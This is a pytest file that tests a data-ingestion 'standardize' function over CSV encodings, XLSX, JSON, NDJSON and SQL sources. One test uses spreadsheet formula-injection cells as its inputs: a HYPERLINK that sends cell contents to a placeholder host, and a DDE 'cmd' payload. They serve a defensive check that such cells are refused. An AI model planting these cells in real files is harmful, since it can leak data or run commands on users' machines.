"""Every source kind through ``standardize``: CSV encodings and dialect quirks, XLSX, JSON,
NDJSON, a SQL table extracted incrementally; and messages that name the user's file."""

from __future__ import annotations

import dataclasses
import datetime as dt
import json
import shutil
import tempfile
from decimal import Decimal
from pathlib import Path
from typing import Any

import duckdb
import openpyxl
import pytest
import sqlalchemy as sa
from hypothesis import HealthCheck, given
from hypothesis import settings as hyp_settings
from hypothesis import strategies as st

from catalog.settings import Settings
from lakehouse.errors import MalformedSource
from lakehouse.sources.database import extract
from lakehouse.standardize import Staged, standardize
from schemas.loader import DatasetContract
from tests.lakehouse import factories

HASH_NAME = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855.csv"


def _contract(**source: Any) -> DatasetContract:
    base = factories.contract()
    return dataclasses.replace(base, source=dataclasses.replace(base.source, **source))


def _rows(path: Path) -> list[dict[str, Any]]:
    con = duckdb.connect()
    try:
        result = con.execute(f"SELECT * FROM read_parquet('{path}') ORDER BY _row")
        names = [d[0] for d in result.description]
        return [dict(zip(names, row, strict=True)) for row in result.fetchall()]
    finally:
        con.close()


def _staging(settings: Settings) -> list[str]:
    return (
        sorted(p.name for p in settings.staging_dir.iterdir())
        if settings.staging_dir.exists()
        else []
    )


def _refused(
    settings: Settings, contract: DatasetContract, path: Path, name: str = "dept.csv"
) -> MalformedSource:
    with pytest.raises(MalformedSource) as caught:
        standardize(settings, contract, 99, path, source_name=name)
    assert [p for p in _staging(settings) if p.startswith((".", "99."))] == []
    assert str(caught.value).startswith(name)
    return caught.value


# -- CSV encodings --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("encoding", "declared", "used"),
    [
        ("utf-8", "auto", "utf-8"),
        ("utf-8-sig", "auto", "utf-8-sig"),
        ("gbk", "auto", "gbk"),
        ("gb18030", "auto", "gb18030"),
        ("gb18030", "gb18030", "gb18030"),
        ("utf-8-sig", "utf-8", "utf-8-sig"),
        ("utf-16", "auto", "utf-16"),
    ],
)
def test_csv_encodings_are_detected_and_reported(
    settings: Settings, tmp_path: Path, encoding: str, declared: str, used: str
) -> None:
    rows = [list(r.cells) for r in factories.source_rows(4)]
    if encoding in ("gb18030", "utf-8", "utf-16"):
        rows[2][1] = "王㑇"  # CJK extension A: in GB18030, not in GBK
    source = factories.write_csv(tmp_path / "in.csv", rows, encoding=encoding)
    staged = standardize(settings, _contract(encoding=declared), 1, source)
    assert (staged.source_kind, staged.encoding, staged.rows_in) == ("csv", used, 4)
    names = [r["person_name"] for r in _rows(staged.staging_path)]
    assert names[2] == (
        "王㑇" if encoding in ("gb18030", "utf-8", "utf-16") else rows[2][1].strip()
    )


def test_auto_reads_on_as_gb18030_past_a_gbk_sample(settings: Settings, tmp_path: Path) -> None:
    """The first 64 KiB are plain GBK; a name far below needs GB18030's four-byte forms."""
    rows = [list(r.cells) for r in factories.source_rows(900)]
    rows[-1][1] = "王𠀀"
    source = factories.write_csv(tmp_path / "late.csv", rows, encoding="gb18030")
    assert source.stat().st_size > 1 << 16
    staged = standardize(settings, _contract(encoding="auto"), 1, source)
    assert (staged.encoding, staged.rows_in) == ("gb18030", 900)
    assert _rows(staged.staging_path)[-1]["person_name"] == "王𠀀"
    error = _refused(settings, _contract(encoding="gbk"), source)
    assert error.line == 901 and "not valid gbk" in error.problem


def test_gbk_file_declared_utf8_is_refused_with_a_hint(settings: Settings, tmp_path: Path) -> None:
    source = factories.write_csv(tmp_path / "x.csv", [r.cells for r in factories.source_rows(3)])
    error = _refused(settings, _contract(encoding="utf-8"), source)
    assert "not valid utf-8" in error.problem and "looks like GBK" in error.problem


def test_a_gbk_file_truncated_inside_a_character(settings: Settings, tmp_path: Path) -> None:
    source = factories.write_csv(tmp_path / "x.csv", [r.cells for r in factories.source_rows(3)])
    source.write_bytes(source.read_bytes().rstrip(b"\r\n") + "\r\n张".encode("gbk")[:-1])
    error = _refused(settings, factories.contract(), source)
    assert "ends in the middle of a gbk character" in error.problem
    assert error.line == 5


# -- CSV dialect quirks ---------------------------------------------------------------------------


def test_header_below_title_lines_crlf_and_quoted_newlines(
    settings: Settings, tmp_path: Path
) -> None:
    rows = [list(r.cells) for r in factories.source_rows(5)]
    rows[1][3] = "杭州\r\n某某有限公司"  # a quoted newline inside the employer name
    body = factories.write_csv(tmp_path / "body.csv", rows).read_bytes()
    source = tmp_path / "titled.csv"
    source.write_bytes("2023年5月社保缴费明细\r\n\r\n".encode("gbk") + body)
    staged = standardize(settings, _contract(header_line=3), 1, source)
    out = _rows(staged.staging_path)
    assert staged.rows_in == 5
    assert out[1]["employer_name"] == "杭州\r\n某某有限公司"

    rows[3] = rows[3][:-1]  # a ragged row: data row 4 starts on line 3 + 4 + 1 = 8
    body = factories.write_csv(tmp_path / "body.csv", rows).read_bytes()
    source.write_bytes("2023年5月社保缴费明细\r\n\r\n".encode("gbk") + body)
    error = _refused(settings, _contract(header_line=3), source)
    assert (error.line, error.problem) == (8, "expected 7 columns, found 6")


def test_trailing_delimiters_on_data_lines(settings: Settings, tmp_path: Path) -> None:
    rows = [(*r.cells, "") for r in factories.source_rows(3)]
    source = factories.write_csv(tmp_path / "t.csv", rows)
    staged = standardize(settings, factories.contract(), 1, source)
    assert staged.rows_in == 3 and staged.extra_columns == ()

    rows[2] = (*rows[2][:-1], "多")
    source = factories.write_csv(tmp_path / "t.csv", rows)
    error = _refused(settings, factories.contract(), source)
    assert error.line == 4 and "no header" in error.problem


def test_semicolons_with_delimiter_auto_and_a_hint_without(
    settings: Settings, tmp_path: Path
) -> None:
    rows = [r.cells for r in factories.source_rows(3)]
    text = "\r\n".join(";".join(r) for r in [factories.HEADER, *rows]) + "\r\n"
    source = tmp_path / "semi.csv"
    source.write_bytes(text.replace(",", "").encode("gbk"))
    assert standardize(settings, _contract(delimiter="auto"), 1, source).rows_in == 3
    error = _refused(settings, factories.contract(), source)
    assert "looks delimited by ';', not ','" in error.problem and error.line == 1


def test_thousands_separators_and_full_width_amounts(settings: Settings, tmp_path: Path) -> None:
    rows = [list(r.cells) for r in factories.source_rows(2)]
    rows[0][5], rows[1][5] = "1,234,567.89", "１２，３４５．６"
    out = _rows(
        standardize(
            settings, factories.contract(), 1, factories.write_csv(tmp_path / "a.csv", rows)
        ).staging_path
    )
    assert [r["amount"] for r in out] == [Decimal("1234567.89"), Decimal("12345.60")]


def test_excel_mangled_numbers_refused_when_the_contract_says(
    settings: Settings, tmp_path: Path
) -> None:
    rows = [list(r.cells) for r in factories.source_rows(4)]
    rows[2][0] = "1.10101E+17"
    source = factories.write_csv(tmp_path / "excel.csv", rows)
    error = _refused(settings, _contract(excel_numbers="refuse"), source)
    assert error.line == 4 and error.columns == ("身份证号码",)
    assert "scientific notation" in error.problem and "1.10101E+17" in error.problem


def test_excel_mangled_numbers_are_held_back_by_default(settings: Settings, tmp_path: Path) -> None:
    """A field with a data element leaves it to the element's rule (citizen_id.format); one
    without is listed in _cast_errors, and a typed one is NULL, not Excel's number."""
    base = factories.contract()
    fields = tuple(
        dataclasses.replace(f, element=None, duckdb_type="DECIMAL(18,2)")
        if f.name == "amount"
        else f
        for f in base.fields
    )
    contract = dataclasses.replace(base, fields=fields)
    rows = [list(r.cells) for r in factories.source_rows(3)]
    for row in rows:
        row[5] = "12.50"
    rows[0][0], rows[1][3], rows[2][5] = "1.10101E+17", "1.23457E+11", "1.5E+12"
    staged = standardize(settings, contract, 1, factories.write_csv(tmp_path / "e.csv", rows))
    out = _rows(staged.staging_path)
    assert out[0]["citizen_id"] == "1.10101E+17" and out[0]["_cast_errors"] == []
    assert out[1]["employer_name"] == "1.23457E+11" and out[1]["_cast_errors"] == ["employer_name"]
    assert out[2]["amount"] is None and out[2]["_cast_errors"] == ["amount"]


@pytest.mark.parametrize(
    "cell",
    ['=HYPERLINK("http://x.example/?"&A1,"点击")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"],
)
def test_formula_injection_cells_are_refused_unless_allowed(
    settings: Settings, tmp_path: Path, cell: str
) -> None:
    rows = [list(r.cells) for r in factories.source_rows(3)]
    rows[1][3] = cell
    source = factories.write_csv(tmp_path / "f.csv", rows)
    error = _refused(settings, factories.contract(), source)
    assert error.line == 3 and error.columns == ("单位名称",) and "formula" in error.problem
    assert cell not in str(error)
    staged = standardize(settings, _contract(formula_cells="allow"), 1, source)
    assert _rows(staged.staging_path)[1]["employer_name"] == cell


def test_signed_numbers_and_dashes_are_not_formulas(settings: Settings, tmp_path: Path) -> None:
    rows = [list(r.cells) for r in factories.source_rows(3)]
    rows[0][3], rows[1][3], rows[2][3] = "-", "-12.5", "+86 571 8765 4321"
    staged = standardize(
        settings, factories.contract(), 1, factories.write_csv(tmp_path / "s.csv", rows)
    )
    assert [r["employer_name"] for r in _rows(staged.staging_path)] == [
        "-",
        "-12.5",
        "+86 571 8765 4321",
    ]


# -- messages name the user's file; binaries are not text ----------------------------------------


def test_messages_name_the_users_file_not_the_raw_zone_name(
    settings: Settings, tmp_path: Path
) -> None:
    raw = tmp_path / HASH_NAME
    raw.write_bytes(b"")
    error = _refused(settings, factories.contract(), raw, name="社保_2023-05.csv")
    assert str(error) == "社保_2023-05.csv: the file is empty"
    assert HASH_NAME[:8] not in str(error)


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (b"PK\x03\x04" + b"\x00" * 60, "a damaged zip archive, not a CSV text file"),
        (b"\x7fELF\x02\x01\x01" + b"\x00" * 60, "not a text file (an ELF executable)"),
        (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", "not a text file (a PDF document)"),
        ("身份证号码,姓名\r\n1\x002,张三\r\n".encode("gbk"), "not a text file (it contains NUL"),
    ],
)
def test_binary_files_are_not_text(
    settings: Settings, tmp_path: Path, data: bytes, expected: str
) -> None:
    raw = tmp_path / HASH_NAME
    raw.write_bytes(data)
    assert expected in str(_refused(settings, factories.contract(), raw, name="上报.csv"))


def test_a_zip_that_is_not_a_workbook(settings: Settings, tmp_path: Path) -> None:
    archive = shutil.make_archive(str(tmp_path / "a"), "zip", root_dir=factories_dir(tmp_path))
    error = _refused(settings, factories.contract(), Path(archive), name="上报.csv")
    assert error.problem == "a zip archive, not a CSV text file"


def factories_dir(tmp_path: Path) -> Path:
    folder = tmp_path / "zipped"
    folder.mkdir()
    factories.write_csv(folder / "inner.csv", [r.cells for r in factories.source_rows(2)])
    return folder


# -- XLSX -----------------------------------------------------------------------------------------


def _workbook(
    path: Path, rows: list[list[Any]], *, title: bool = True, sheet: str = "明细"
) -> Path:
    book = openpyxl.Workbook()
    cover = book.active
    assert cover is not None
    cover.title = "说明"
    cover["A1"] = "本表为社保缴费明细"
    ws = book.create_sheet(sheet)
    if title:
        ws.append(["2023年5月社保缴费明细"])
        ws.append([])
    ws.append(list(factories.HEADER))
    for row in rows:
        ws.append(row)
    book.save(path)
    return path


def test_xlsx_named_sheet_with_a_title_row(settings: Settings, tmp_path: Path) -> None:
    want = list(factories.source_rows(4))
    cells: list[list[Any]] = [list(r.cells) for r in want]
    cells[1][5] = 1234.5  # a number cell
    cells[2][4] = dt.datetime(2023, 7, 1)  # a date cell in the month column
    book = _workbook(tmp_path / "明细.xlsx", cells + [[None] * 7])  # a trailing empty row
    staged = standardize(settings, _contract(format="xlsx", sheet="明细", header_line=3), 1, book)
    assert (staged.source_kind, staged.sheet, staged.encoding, staged.rows_in) == (
        "xlsx",
        "明细",
        "",
        4,
    )
    out = _rows(staged.staging_path)
    assert [r["citizen_id"] for r in out] == [r.citizen_id for r in want]
    assert out[1]["amount"] == Decimal("1234.50")
    assert out[2]["period"] == "2023-07-01"  # a date cell: kept as text for month.format to judge


def test_xlsx_first_sheet_and_a_missing_sheet(settings: Settings, tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    ws = book.active
    assert ws is not None
    ws.append(list(factories.HEADER))
    for row in factories.source_rows(2):
        ws.append(list(row.cells))
    book.save(tmp_path / "b.xlsx")
    staged = standardize(settings, _contract(format="xlsx"), 1, tmp_path / "b.xlsx")
    assert (staged.sheet, staged.rows_in) == ("Sheet", 2)
    error = _refused(
        settings, _contract(format="xlsx", sheet="缴费"), tmp_path / "b.xlsx", "b.xlsx"
    )
    assert error.problem == "no sheet named 缴费 (sheets: Sheet)"


def test_xlsx_id_number_stored_as_a_number_is_refused(settings: Settings, tmp_path: Path) -> None:
    cells: list[list[Any]] = [list(r.cells) for r in factories.source_rows(3)]
    cells[1][0] = 110101199003076631  # Excel keeps 1.10101199003077E+17
    book = _workbook(tmp_path / "n.xlsx", cells)
    error = _refused(
        settings, _contract(format="xlsx", sheet="明细", header_line=3), book, "n.xlsx"
    )
    assert error.line == 5 and "16 or more digits" in error.problem


def test_xlsx_formula_cell_is_refused_with_its_cell(settings: Settings, tmp_path: Path) -> None:
    cells: list[list[Any]] = [list(r.cells) for r in factories.source_rows(3)]
    cells[2][5] = "=100*2"
    book = _workbook(tmp_path / "f.xlsx", cells, title=False)
    error = _refused(settings, _contract(format="xlsx", sheet="明细"), book, "f.xlsx")
    assert (error.line, error.problem.split(" holds")[0]) == (4, "sheet 明细, cell F4")


def test_an_xlsx_delivered_to_a_csv_contract(settings: Settings, tmp_path: Path) -> None:
    book = _workbook(tmp_path / "w.xlsx", [list(r.cells) for r in factories.source_rows(2)])
    error = _refused(settings, factories.contract(), book, "w.csv")
    assert error.problem == "an xlsx workbook, not a CSV text file (the contract's source format)"
    staged = standardize(settings, _contract(format="auto", sheet="明细", header_line=3), 1, book)
    assert staged.source_kind == "xlsx"


# -- JSON and NDJSON ------------------------------------------------------------------------------


def _objects(n: int) -> list[dict[str, Any]]:
    return [dict(zip(factories.HEADER, r.cells, strict=True)) for r in factories.source_rows(n)]


def test_json_array_and_ndjson(settings: Settings, tmp_path: Path) -> None:
    records = _objects(3)
    records[0]["身份证号码"] = 110101199003076631  # a JSON number keeps all its digits
    records[1]["备注"] = "多余"
    array = tmp_path / "a.json"
    array.write_text(json.dumps(records, ensure_ascii=False, indent=2), encoding="utf-8")
    staged = standardize(settings, _contract(format="json", encoding="utf-8"), 1, array)
    assert (staged.source_kind, staged.encoding, staged.extra_columns) == (
        "json",
        "utf-8",
        ("备注",),
    )
    out = _rows(staged.staging_path)
    assert out[0]["citizen_id"] == "110101199003076631"

    lines = tmp_path / "a.ndjson"
    lines.write_bytes(
        "\n".join(json.dumps(r, ensure_ascii=False) for r in records).encode("gbk") + b"\n"
    )
    staged = standardize(settings, _contract(format="json", encoding="auto"), 2, lines)
    assert (staged.source_kind, staged.encoding, staged.rows_in) == ("ndjson", "gbk", 3)


def test_json_nested_value_and_missing_key(settings: Settings, tmp_path: Path) -> None:
    records = _objects(3)
    records[2]["姓名"] = {"姓": "张"}
    source = tmp_path / "n.json"
    source.write_text(json.dumps(records, ensure_ascii=False, indent=1), encoding="utf-8")
    error = _refused(settings, _contract(format="json", encoding="utf-8"), source, "n.json")
    assert (error.line, error.problem) == (20, "column 姓名: a nested object, not text or a number")

    for record in records:
        del record["缴费金额"]
        record["姓名"] = "张三"
    source.write_text(json.dumps(records, ensure_ascii=False), encoding="utf-8")
    error = _refused(settings, _contract(format="json", encoding="utf-8"), source, "n.json")
    assert error.columns == ("缴费金额",)


# -- a table from a SQLAlchemy URL, incrementally -------------------------------------------------


def test_sql_table_extracted_incrementally_by_watermark(settings: Settings, tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'dept.sqlite'}"
    engine = sa.create_engine(url)
    columns = ", ".join(f'"{h}" TEXT' for h in factories.HEADER)
    rows = [r.cells for r in factories.source_rows(5)]
    insert = sa.text("INSERT INTO contributions VALUES (:a, :b, :c, :d, :e, :f, :g, :w)")
    with engine.begin() as conn:
        conn.execute(sa.text(f"CREATE TABLE contributions ({columns}, updated_at TEXT)"))
        for i, row in enumerate(rows[:3]):
            values = [*row, f"2023-06-0{i + 1} 08:00:00"]
            conn.execute(insert, dict(zip("abcdefgw", values, strict=True)))
    contract = _contract(
        format="sql", encoding="utf-8", table="contributions", watermark="updated_at"
    )
    first = extract(url, contract.source, tmp_path / "e1.csv")
    assert (first.rows, first.watermark) == (3, "2023-06-03 08:00:00")
    staged: Staged = standardize(settings, contract, 1, first.path)
    assert staged.rows_in == 3 and staged.extra_columns == ("updated_at",)

    with engine.begin() as conn:
        for i, row in enumerate(rows[3:]):
            values = [*row, f"2023-07-0{i + 1} 08:00:00"]
            conn.execute(insert, dict(zip("abcdefgw", values, strict=True)))
    second = extract(url, contract.source, tmp_path / "e2.csv", since=first.watermark)
    assert (second.rows, second.watermark) == (2, "2023-07-02 08:00:00")
    out = _rows(standardize(settings, contract, 2, second.path).staging_path)
    assert [r["employer_uscc"] for r in out] == [r[2].upper() for r in rows[3:]]
    nothing = extract(url, contract.source, tmp_path / "e3.csv", since=second.watermark)
    assert (nothing.rows, nothing.watermark) == (0, second.watermark)
    engine.dispose()


# -- hostile bytes: a Staged file or a MalformedSource, never anything else ----------------------


def _bases() -> dict[str, bytes]:
    folder = Path(tempfile.mkdtemp(prefix="zt-sources-"))
    cells = [r.cells for r in factories.source_rows(6)]
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    for row in [factories.HEADER, *cells]:
        sheet.append(list(row))
    book.save(folder / "b.xlsx")
    records = [dict(zip(factories.HEADER, row, strict=True)) for row in cells]
    return {
        "gbk": factories.write_csv(folder / "v.csv", cells).read_bytes(),
        "auto": factories.write_csv(folder / "u.csv", cells, encoding="utf-8").read_bytes(),
        "utf-16": factories.write_csv(folder / "w.csv", cells, encoding="utf-16").read_bytes(),
        "xlsx": (folder / "b.xlsx").read_bytes(),
        "json": json.dumps(records, ensure_ascii=False, indent=1).encode(),
    }


_BASES = _bases()


@hyp_settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    kind=st.sampled_from(sorted(_BASES)),
    cuts=st.lists(st.tuples(st.floats(0, 1), st.binary(max_size=6)), max_size=4),
)
def test_mangled_bytes_are_read_or_refused_never_a_crash(
    settings: Settings, tmp_path: Path, kind: str, cuts: list[tuple[float, bytes]]
) -> None:
    data = bytearray(_BASES[kind])
    for where, junk in cuts:
        at = int(where * len(data))
        data[at : at + len(junk)] = junk
    source = tmp_path / HASH_NAME
    source.write_bytes(bytes(data))
    contract = (
        _contract(format=kind, encoding="auto")
        if kind in ("xlsx", "json")
        else _contract(encoding=kind)
    )
    try:
        staged = standardize(settings, contract, 5, source, source_name="上报.csv")
    except MalformedSource as error:
        assert str(error).startswith("上报.csv")
        assert [p for p in _staging(settings) if p.startswith(".")] == []
    else:
        assert staged.rows_in >= 1


@pytest.mark.postgres
def test_sql_query_extracted_from_postgresql_streams_by_watermark(
    postgresql_url: str, tmp_path: Path
) -> None:
    """A query (not a table), a TIMESTAMP watermark and a NUMERIC column, from a server-side
    cursor in chunks smaller than the result."""
    engine = sa.create_engine(postgresql_url)
    with engine.begin() as conn:
        conn.execute(
            sa.text("CREATE TABLE pay (id TEXT, amount NUMERIC(12, 2), changed TIMESTAMP)")
        )
        conn.execute(
            sa.text("INSERT INTO pay VALUES (:i, :a, :c)"),
            [
                {"i": f"p{n}", "a": Decimal(f"{n}.50"), "c": dt.datetime(2023, 6, 1, 8, n)}
                for n in range(7)
            ],
        )
    engine.dispose()
    source = _contract(
        format="sql", query="SELECT id, amount, changed FROM pay", watermark="changed"
    ).source
    first = extract(postgresql_url, source, tmp_path / "a.csv", chunk=2)
    assert (first.rows, first.watermark) == (7, "2023-06-01 08:06:00")
    lines = first.path.read_text(encoding="utf-8").splitlines()
    assert lines[:2] == ["id,amount,changed", "p0,0.50,2023-06-01 08:00:00"]
    later = extract(postgresql_url, source, tmp_path / "b.csv", since="2023-06-01 08:04:00")
    assert (later.rows, later.watermark) == (2, "2023-06-01 08:06:00")
